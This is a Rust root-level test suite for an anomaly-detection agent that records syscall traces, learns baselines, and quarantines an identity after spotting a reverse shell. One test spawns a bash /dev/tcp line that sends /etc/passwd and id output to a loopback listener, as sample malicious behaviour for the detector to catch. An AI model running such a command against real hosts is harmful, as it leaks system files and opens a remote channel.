//! Root tests of the anomaly model's live side: `zt-agent model record`
//! through a running agent records the syscalls of one identity's
//! processes (one trace per thread), and nothing of a process without it;
//! the daemon learns an identity's baseline from its real processes, finds
//! a reverse shell, quarantines the identity (its next connect denied, the
//! far side receives nothing), keeps baseline and quarantine across a
//! restart, and learns again when a learnt executable changes.
use std::{
    io::Read,
    net::TcpListener,
    path::Path,
    process::Command,
    sync::{Arc, Mutex},
    time::{Duration, Instant},
};

use zt_tests::*;

/// The calls of trace `<pid>-<pid>.txt` under `dir`, if it was written.
fn trace_of(dir: &Path, pid: u32) -> Option<Vec<u32>> {
    let text = std::fs::read_to_string(dir.join(format!("{pid}-{pid}.txt"))).ok()?;
    Some(text.split_whitespace().map(|t| t.parse().expect("a syscall number")).collect())
}

const OPENAT: u32 = 257;
const EXIT_GROUP: u32 = 231;
/// `IORING_BASE` + `IORING_OP_OPENAT` (18).
const URING_OPENAT: u32 = 1024 + 18;

#[test]
#[ignore = "needs root (loads eBPF programs, creates cgroups): cargo xtask test runs it"]
fn model_record_writes_the_traces_of_an_identity_only() {
    const TEST: &str = "model_record_writes_the_traces_of_an_identity_only";
    if !require_root(TEST) {
        return;
    }
    let cg = TestCgroup::new(&format!("/{}/agent", unique("record"))).unwrap();
    let policy = policy("zt.test", &format!("    - name: agent\n      selectors:\n        - cgroup: {}/**\n", cg.rel));
    let agent = Agent::start("record", &policy, &[]).unwrap();
    let dir = tempdir("record-out").unwrap();
    let traces = dir.path().join("traces");
    let data = dir.path().join("data");
    std::fs::write(&data, "zt").unwrap();
    let record = |out: &Path, duration: &str| agent.model_record("agent", out, duration);
    assert!(agent.status()["syscall_telemetry"].as_str().unwrap().starts_with("detached"), "nothing watched, nothing recorded");
    let recording = record(&traces, "4s");
    std::thread::sleep(Duration::from_millis(1500));
    // The same work by the identity and by the control.
    let run = |mut cmd: Command, mode: &str, out: &str| {
        let mut child = cmd.args(["file", mode, data.to_str().unwrap(), dir.path().join(out).to_str().unwrap()]).spawn().unwrap();
        let pid = child.id();
        assert!(child.wait().unwrap().success());
        (pid, std::fs::read_to_string(dir.path().join(out)).unwrap())
    };
    let (agent_pid, read) = run(cg.command(helper_bin()), "read", "a");
    assert_eq!(read, "OK zt");
    let (control_pid, _) = run(Command::new(helper_bin()), "read", "c");
    let (uring_pid, uring) = run(cg.command(helper_bin()), "uring-read", "u");
    let out = recording.wait_with_output().unwrap();
    assert!(out.status.success(), "record: {}", String::from_utf8_lossy(&out.stderr));
    let said = String::from_utf8_lossy(&out.stdout);
    assert!(said.contains(" traces, "), "{said}");

    let calls = trace_of(&traces, agent_pid).unwrap_or_else(|| panic!("no trace of the identity's process {agent_pid}: {said}"));
    assert!(calls.contains(&OPENAT), "the identity's read opened its file: {calls:?}");
    assert_eq!(calls.last(), Some(&EXIT_GROUP), "the trace runs to the process's end: {calls:?}");
    assert!(trace_of(&traces, control_pid).is_none(), "the control, without an identity, is not recorded");
    if uring.starts_with("OK") {
        let calls = trace_of(&traces, uring_pid).expect("a trace of the io_uring process");
        assert!(calls.contains(&URING_OPENAT), "the io_uring open as a pseudo-call: {calls:?}");
    } else {
        skip_variant(TEST, "io_uring", &format!("io_uring does not run here: {uring}"));
    }

    // A recording whose client goes away ends: telemetry off at once, not
    // after its 60 s.
    let mut abandoned = record(&dir.path().join("abandoned"), "60s");
    agent.wait_status("the recording's telemetry", |s| s["syscall_telemetry"].as_str().unwrap_or("").starts_with("attached"));
    abandoned.kill().unwrap();
    let _ = abandoned.wait();
    agent
        .wait_status("telemetry off after the client went away", |s| s["syscall_telemetry"].as_str().unwrap_or("").starts_with("detached"));
    assert!(!dir.path().join("abandoned").exists(), "nothing written for an abandoned recording");

    // Telemetry went off with the recording: a second one starts, and a
    // recording of an identity the policy does not have is refused by name.
    let second = record(&dir.path().join("second"), "1s").wait_with_output().unwrap();
    assert!(second.status.success(), "{}", String::from_utf8_lossy(&second.stderr));
    let unknown = Command::new(agent_bin())
        .args(["model", "record", "--identity", "nobody", "--duration", "1s", "--out", "/nonexistent", "--socket"])
        .arg(&agent.socket)
        .output()
        .unwrap();
    assert!(!unknown.status.success());
    assert!(String::from_utf8_lossy(&unknown.stderr).contains("no identity \"nobody\" in the policy in force"));
    agent.stop().unwrap();
}

/// A loopback server that keeps what each connection sent.
fn receiver() -> (String, Arc<Mutex<Vec<String>>>) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = l.local_addr().unwrap().to_string();
    let got = Arc::new(Mutex::new(Vec::new()));
    let g = got.clone();
    std::thread::spawn(move || {
        for mut s in l.incoming().map_while(Result::ok) {
            let mut text = String::new();
            let _ = s.set_read_timeout(Some(Duration::from_secs(2)));
            let _ = s.read_to_string(&mut text);
            g.lock().unwrap().push(text);
        }
    });
    (addr, got)
}

/// The identity's "normal" work: a shell running small tools, one of them
/// a copy (`tool`) whose digest the baseline learns, and an allowed connect.
fn normal_round(cg: &TestCgroup, tool: &Path, addr: &str, out: &Path) -> String {
    let script = format!(
        "cat /etc/hostname >/dev/null; ls / >/dev/null; {} /etc/passwd >/dev/null; head -c 64 /etc/services >/dev/null",
        tool.display()
    );
    assert!(cg.command("sh").args(["-c", &script]).status().unwrap().success());
    helper_result(cg.command(helper_bin()), &["try", "tcp", addr], out)
}

#[test]
#[ignore = "needs root (loads eBPF programs, creates cgroups): cargo xtask test runs it"]
fn an_identity_learns_then_a_reverse_shell_is_found_and_quarantined() {
    const TEST: &str = "an_identity_learns_then_a_reverse_shell_is_found_and_quarantined";
    if !require_root(TEST) {
        return;
    }
    if !Path::new("/bin/bash").exists() {
        skip(TEST, "no /bin/bash for the reverse shell");
        return;
    }
    let cg = TestCgroup::new(&format!("/{}/agent", unique("anomaly"))).unwrap();
    let (addr, received) = receiver();
    let port = addr.rsplit(':').next().unwrap().to_string();
    let policy = format!(
        "{}  rules:\n    - name: home\n      identity: agent\n      action: allow\n      egress:\n        - to: [127.0.0.1/32]\n          ports: [{port}]\n",
        policy(
            "zt.test",
            &format!(
                "    - name: agent\n      selectors:\n        - cgroup: {}/**\n      anomaly:\n        mode: detect\n        response: quarantine\n        falsePositiveRate: 0.01\n        learnCalls: 20000\n",
                cg.rel
            )
        )
    );
    let dir = tempdir("anomaly-live").unwrap();
    let state = dir.path().join("state");
    let state_arg = ["--state-dir", state.to_str().unwrap()];
    let tool = dir.path().join("tool");
    std::fs::copy("/usr/bin/sort", &tool).unwrap();
    let out = dir.path().join("try");
    let agent = Agent::start("anomaly-live", &policy, &state_arg).unwrap();
    let st = agent.wait_status("the identity watched", |s| s["anomaly"]["agent"]["phase"] == "learning");
    let telemetry = st["syscall_telemetry"].as_str().unwrap();
    assert!(telemetry.starts_with("attached: raw tracepoint sys_enter") && telemetry.contains("for 1 identity"), "{telemetry}");

    // Learning: real processes of the identity until the baseline is learnt.
    let deadline = Instant::now() + Duration::from_secs(60);
    let learnt = loop {
        let r = normal_round(&cg, &tool, &addr, &out);
        assert_eq!(
            r,
            "OK",
            "the identity's allowed connect: {:?}",
            agent
                .events_where(|l| l.contains("\"detection\""))
                .iter()
                .map(|e| format!(
                    "{} {} {} {} {} {}",
                    e["process"]["exe"],
                    e["detection"]["scorer"],
                    e["detection"]["score"],
                    e["detection"]["threshold"],
                    e["detection"]["surprise_bits"],
                    e["detection"]["frequency_distance"]
                ))
                .collect::<Vec<_>>()
        );
        let notes = agent.events_where(|l| l.contains("\"baseline\""));
        if let Some(n) = notes.iter().find(|e| e["baseline"]["state"] == "learnt") {
            break n.clone();
        }
        assert!(Instant::now() < deadline, "no baseline learnt in 60 s: {notes:?}\n{}", agent.stderr());
    };
    eprintln!("{TEST}: {}", learnt["baseline"]);
    assert_eq!(learnt["identity"]["name"], "agent");
    assert!(learnt["baseline"]["threshold"].is_number(), "{learnt}");
    assert!(learnt["baseline"]["file"].as_str().unwrap().ends_with("anomaly/agent.json"), "{learnt}");
    let file: serde_json::Value = serde_json::from_slice(&std::fs::read(state.join("anomaly/agent.json")).unwrap()).unwrap();
    eprintln!("{TEST}: executables {}", file["executables"]);

    // A reverse shell: bash connects home, sends what it reads, and runs
    // the commands it gets back (none here).
    let shell = cg
        .command("/bin/bash")
        .args(["-c", &format!("exec 3<>/dev/tcp/127.0.0.1/{port}; cat /etc/passwd >&3; id >&3; uname -a >&3; exec 3>&-")])
        .spawn()
        .unwrap();
    let shell_pid = shell.id();
    let _ = shell.wait_with_output();
    let found = agent
        .wait_for("the reverse shell's finding", |e| e["kind"] == "detection" && e["process"]["pid"] == shell_pid)
        .unwrap()
        .into_iter()
        .find(|e| e["kind"] == "detection" && e["process"]["pid"] == shell_pid)
        .unwrap();
    let d = &found["detection"];
    assert_eq!(found["identity"]["spiffe_id"], "spiffe://zt.test/agent", "{found}");
    assert!(d["score"].as_f64().unwrap() > d["threshold"].as_f64().unwrap(), "{found}");
    assert_eq!(d["response"], "quarantine");
    assert!(d["outcome"].as_str().unwrap().starts_with("quarantine requested"), "{found}");
    assert!(!d["evidence"]["sequences"].as_array().unwrap().is_empty(), "{found}");
    assert!(d["evidence"]["syscalls"][0]["call"].is_string(), "named calls: {found}");

    // Quarantined: the identity's next connect is denied and nothing
    // arrives; a process without an identity still connects.
    agent.wait_status("the quarantine", |s| s["policy"]["quarantined"] == serde_json::json!(["agent"]));
    let sent = received.lock().unwrap().len();
    assert_eq!(helper_result(cg.command(helper_bin()), &["try", "tcp", &addr], &out), "EPERM");
    assert_eq!(helper_result(Command::new(helper_bin()), &["try", "tcp", &addr], &out), "OK", "the control connects");
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(received.lock().unwrap().len(), sent + 1, "only the control's connection arrived");
    let audit = agent.events_where(|l| l.contains("\"quarantined\""));
    assert!(audit.iter().any(|e| e["kind"] == "policy" && e["policy"]["action"] == "quarantined"), "{audit:?}");

    // A restart keeps the baseline and the quarantine.
    agent.stop().unwrap();
    let agent = Agent::start("anomaly-live", &policy, &state_arg).unwrap();
    let loaded = agent.wait_for("the baseline loaded", |e| e["kind"] == "baseline" && e["baseline"]["state"] == "loaded").unwrap();
    assert!(!loaded.is_empty());
    assert_eq!(agent.status()["policy"]["quarantined"], serde_json::json!(["agent"]));
    assert_eq!(helper_result(cg.command(helper_bin()), &["try", "tcp", &addr], &out), "EPERM");
    let released = Command::new(agent_bin()).args(["identity", "release", "agent", "--socket"]).arg(&agent.socket).output().unwrap();
    assert!(released.status.success(), "{}", String::from_utf8_lossy(&released.stderr));
    assert_eq!(helper_result(cg.command(helper_bin()), &["try", "tcp", &addr], &out), "OK", "released");
    let again = Command::new(agent_bin()).args(["identity", "release", "agent", "--socket"]).arg(&agent.socket).output().unwrap();
    let said = String::from_utf8_lossy(&again.stderr);
    assert!(!again.status.success() && said.contains("identity \"agent\" is not quarantined"), "{said}");

    // A learnt executable with a new digest: learning starts again.
    std::fs::remove_file(&tool).unwrap();
    std::fs::copy("/usr/bin/tac", &tool).unwrap();
    normal_round(&cg, &tool, &addr, &out);
    let relearn = agent
        .wait_for("learning again", |e| e["kind"] == "baseline" && e["baseline"]["reason"].as_str().is_some_and(|r| r.contains("changed")))
        .unwrap();
    let r = relearn.iter().find(|e| e["baseline"]["reason"].as_str().is_some_and(|r| r.contains("changed"))).unwrap();
    assert_eq!(r["baseline"]["state"], "learning");
    assert!(r["baseline"]["reason"].as_str().unwrap().contains(tool.to_str().unwrap()), "{r}");
    agent.stop().unwrap();
}
